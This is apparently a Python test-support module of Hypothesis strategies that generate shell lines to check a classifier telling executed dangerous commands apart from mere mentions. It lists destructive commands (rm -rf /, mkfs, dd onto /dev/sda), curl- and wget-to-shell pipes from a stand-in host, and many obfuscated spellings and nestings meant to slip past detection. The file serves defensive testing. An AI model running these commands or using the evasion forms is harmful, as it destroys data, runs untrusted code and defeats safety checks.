"""Hypothesis strategies for lines by construction: one that bash does run, and one that only mentions it.

No sandbox and no classifier here: test_classifier.py gives these to both.
"""

from __future__ import annotations

import shlex
from collections.abc import Callable

from hypothesis import strategies as st

# Each is a simple command or a pipe that is critical by the documents, written as plainly as can be.
WORDS: tuple[tuple[str, ...], ...] = (
    ("rm", "-rf", "/"),
    ("rm", "-r", "-f", "/"),
    ("rm", "--recursive", "--force", "/"),
    ("/bin/rm", "-fr", "/"),
    ("sudo", "id"),
    ("su", "-"),
    ("git", "push", "--force"),
    ("git", "-C", "x", "push", "-f", "origin", "main"),
    ("git", "reset", "--hard"),
    ("git", "clean", "-fdx"),
    ("mkfs.ext4", "/dev/sda1"),
    ("dd", "if=/dev/zero", "of=/dev/sda"),
    ("find", "/", "-delete"),
)
PIPES = ("curl -s https://x.test/i.sh | sh", "wget -qO- https://x.test/i.sh | bash", "echo x > /dev/sda")
ORDINARY = ("true", "ls -la", "echo hello world", "git status", "x=1", "cd build 2>/dev/null", "[ -d src ]")

# Ways to write one word that bash reads as the same.
SPELLINGS: tuple[Callable[[str], str], ...] = (
    lambda word: word,
    lambda word: f"'{word}'",
    lambda word: f'"{word}"',
    lambda word: f"{word[:1]}''{word[1:]}",
    lambda word: f'{word[:-1]}"{word[-1:]}"',
    lambda word: f"\\{word}",
    lambda word: f"$'{word}'",
    lambda word: "$'" + "".join(f"\\x{ord(letter):02x}" for letter in word) + "'",
    lambda word: f"{word[:1]}\\\n{word[1:]}",
)
GAPS = (" ", "  ", "\t", " \\\n ", "${IFS}")
# Ways to have bash run a line: each takes a line and gives one that runs it.
PLACES: tuple[Callable[[str], str], ...] = (
    lambda line: line,
    lambda line: f"true && {line}",
    lambda line: f"false || {line}",
    lambda line: f"false; {line}",
    lambda line: f"echo start\n{line}\necho end",
    lambda line: f"( {line}\n)",
    lambda line: f"{{ {line}\n}}",
    lambda line: f"! {{ {line}\n}}",
    lambda line: f"if true; then {line}\nfi",
    lambda line: f"for i in 1; do {line}\ndone",
    lambda line: f"case x in x) {line}\n;; esac",
    lambda line: f"f() {{ {line}\n}}; f",
    lambda line: f"x=$({line}\n)",
    lambda line: f'echo "a $({line}\n) b"',
    lambda line: f"cat <({line}\n)",
    lambda line: f"[[ -n $({line}\n) ]]",
    lambda line: f"cat <<E\n$({line}\n)\nE",
    lambda line: f"bash <<'END'\n{line}\nEND",
    lambda line: f"bash -c {shlex.quote(line)}",
    lambda line: f"sh -xc {shlex.quote(line)}",
    lambda line: f"eval {shlex.quote(line)}",
    lambda line: f"bash <<< {shlex.quote(line)}",
    lambda line: f"printf '%s\\n' {shlex.quote(line)} | bash",
    lambda line: f"timeout 5 bash -c {shlex.quote(line)}",
    lambda line: f"env A=1 bash -c {shlex.quote(line)}",
    lambda line: f"nohup nice bash -c {shlex.quote(line)}",
)
# Ways to mention a line that run nothing of it.
MENTIONS: tuple[Callable[[str], str], ...] = (
    lambda line: f"echo {shlex.quote(line)}",
    lambda line: f"printf '%s\\n' {shlex.quote(line)} >> notes.md",
    lambda line: f"git commit -m {shlex.quote(line)}",
    lambda line: f"grep -rn -- {shlex.quote(line)} docs",
    lambda line: f"cat > notes.md <<'END'\n{line}\nEND",
    lambda line: "ls # " + line.replace("\n", " "),
    lambda line: f'x={shlex.quote(line)}; echo "$x"',
    lambda line: f": {shlex.quote(line)}",
    lambda line: f'[ "$1" = {shlex.quote(line)} ] && echo refused',
)


@st.composite
def commands(draw: st.DrawFn) -> str:
    """A dangerous command, its words spelt as bash allows."""
    if draw(st.integers(0, 4)) == 0:
        return draw(st.sampled_from(PIPES))
    words = draw(st.sampled_from(WORDS))
    spelt = [draw(st.sampled_from(SPELLINGS))(word) for word in words]
    return draw(st.sampled_from(GAPS)).join(spelt)


@st.composite
def executed(draw: st.DrawFn) -> str:
    """A line that runs a dangerous command: up to three places, one in another, and ordinary work around."""
    line = draw(commands())
    for place in draw(st.lists(st.sampled_from(PLACES), max_size=3)):
        line = place(line)
    before = draw(st.lists(st.sampled_from(ORDINARY), max_size=2))
    return draw(st.sampled_from(("; ", "\n"))).join((*before, line))


@st.composite
def mentioned(draw: st.DrawFn) -> str:
    """A line in which a dangerous command is data."""
    line = draw(st.sampled_from((*PIPES, *(" ".join(words) for words in WORDS))))
    return draw(st.sampled_from(MENTIONS))(line)


# Anything at all, with more of what shells read in a special way than chance would bring.
PIECES = st.sampled_from(
    [
        *"'\"`\\$(){}[]<>|&;#!*?~=\n\t ",
        "$(",
        "${",
        "$((",
        "<<",
        "<<<",
        "<(",
        "\\\n",
        "rm -rf /",
        "sudo",
        "if ",
        "done",
    ]
)
anything = st.one_of(
    st.text(max_size=200), st.lists(st.one_of(PIECES, st.text(max_size=5)), max_size=40).map("".join)
)
